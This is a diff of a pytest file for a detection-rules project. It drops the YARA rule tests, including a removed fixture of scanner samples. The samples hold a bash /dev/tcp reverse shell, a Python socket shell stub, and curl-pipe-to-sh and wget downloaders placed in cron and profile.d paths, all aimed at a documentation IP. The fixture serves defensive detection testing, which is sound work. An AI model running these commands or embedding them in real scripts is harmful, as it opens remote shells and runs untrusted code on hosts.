@@ -10,14 +10,11 @@ from typing import Any
 import pytest
 import yaml
 from google.protobuf import json_format
-from tramgac_collector.bundle import YaraFile
-from tramgac_collector.judging.yara_rules import YaraRules
 from tramgac_proto.event_pb2 import Event
 from tramgac_rules.about import Book
 from tramgac_rules.authoring import compile_rules
 from tramgac_rules.judge import Judge
 from tramgac_rules.record import record_of
-from tramgac_scan.client import Scanner, YaraSource, inspect
 
 CONTENT = Path(__file__).parents[2] / "rules/content"
 # Correlations stand in folders of that name, each with the rules that it refers to: test_correlations.py has them.
@@ -116,9 +113,8 @@ def test_no_part_can_be_taken_out_unnoticed(path, fired):
     assert not unnoticed
 
 
-def test_there_are_at_least_twelve_rules_and_two_yara_rules():
+def test_there_are_at_least_twelve_rules():
     assert len(RULES) >= 12
-    assert len(YARA) >= 2
 
 
 def test_every_rule_explains_itself_in_both_languages():
@@ -142,15 +138,6 @@ def test_every_rule_explains_itself_in_both_languages():
             assert len(rule[key]) == len(rule[f"{key}_vi"]), path.name
 
 
-def test_every_yara_rule_explains_itself_in_both_languages():
-    rules = YaraRules(YaraFile(path.name, path.read_text("utf-8"), content_only=True) for path in YARA)
-    for path in YARA:
-        rule, _ = rules.rule(path.stem)
-        for key in ("title", "description", "triage", "falsepositives"):
-            assert rule[key], f"{path.name}: no {key}"
-            assert rule[f"{key}_vi"], f"{path.name}: no {key}_vi"
-
-
 def test_a_compiled_rule_carries_what_its_author_wrote():
     done = compile_rules([CONTENT / "sigma"])
     judge = Judge.load(json.loads(json.dumps(done.pack)), Book.of(json.loads(json.dumps(done.about))))
@@ -169,64 +156,3 @@ def test_no_rule_knows_the_simulation():
         assert "tramgac-" not in text
         assert "simulat" not in text
         assert "demo" not in text
-
-
-SCRIPT = b"#!/bin/bash\n"
-YARA_SAMPLES = {
-    "reverse_shell_script": (
-        [
-            (SCRIPT + b"bash -i >& /dev/tcp/192.0.2.7/443 0>&1\n", ""),
-            (b"#!/usr/bin/python3\ns=socket.socket(); os.dup2(s.fileno(),0)\n", ""),
-        ],
-        [
-            (b"bash -i >& /dev/tcp/192.0.2.7/443 0>&1\n", ""),  # text about it, no script
-            (SCRIPT + b"echo > /dev/tcp/192.0.2.7/443\n", ""),  # a port check
-            (SCRIPT + b"bash -i >& /dev/tty 0>&1\n", ""),
-            (b"#!/usr/bin/python3\ns=socket.socket(); s.close()\n", ""),
-            (SCRIPT + b"bash -i >& /dev/tcp/192.0.2.7/443 0>&1\n" + b"#" * (1 << 20), ""),
-        ],
-    ),
-    "downloader_in_start_folder": (
-        [
-            (SCRIPT + b"curl -s https://192.0.2.7/x | sh\n", "/etc/cron.hourly/x"),
-            (SCRIPT + b"wget -q http://192.0.2.7/x -O /usr/bin/x; chmod 755 /usr/bin/x\n", "/etc/profile.d/x.sh"),
-        ],
-        [
-            (SCRIPT + b"curl -s https://192.0.2.7/x | sh\n", "/home/an/x.sh"),
-            (SCRIPT + b"curl -s https://192.0.2.7/x -o list\n", "/etc/cron.hourly/x"),
-            (SCRIPT + b"cat x | sh\n", "/etc/cron.hourly/x"),
-            (b"curl -s https://192.0.2.7/x | sh\n", "/etc/cron.hourly/x"),
-            (SCRIPT + b"curl -s https://192.0.2.7/x | sh\n" + b"#" * (1 << 20), "/etc/cron.hourly/x"),
-        ],
-    ),
-}
-
-
-def test_yara_fires_and_is_silent():
-    sources = [YaraSource(p.name, p.read_text("utf-8")) for p in YARA]
-    found = set()
-    with Scanner(sources) as scanner:
-        for name, (fires, silent) in YARA_SAMPLES.items():
-            for wanted, group in ((True, fires), (False, silent)):
-                for content, path in group:
-                    hits = {hit.rule for hit in scan(scanner, content, path)}
-                    assert (name in hits) == wanted, (name, content[:80], path)
-                    found |= hits
-    assert found == set(YARA_SAMPLES)
-
-
-def scan(scanner: Scanner, content: bytes, path: str):
-    import os
-
-    fd = os.memfd_create("sample")
-    try:
-        os.write(fd, content)
-        return scanner.scan(fd, {"filepath": path, "filename": Path(path).name}).hits
-    finally:
-        os.close(fd)
-
-
-def test_one_source_is_for_the_fleet_and_one_for_the_edge():
-    seen = inspect([YaraSource(p.name, p.read_text("utf-8")) for p in YARA])
-    assert not seen.problems
-    assert seen.content_only == {"reverse_shell_script.yar"}
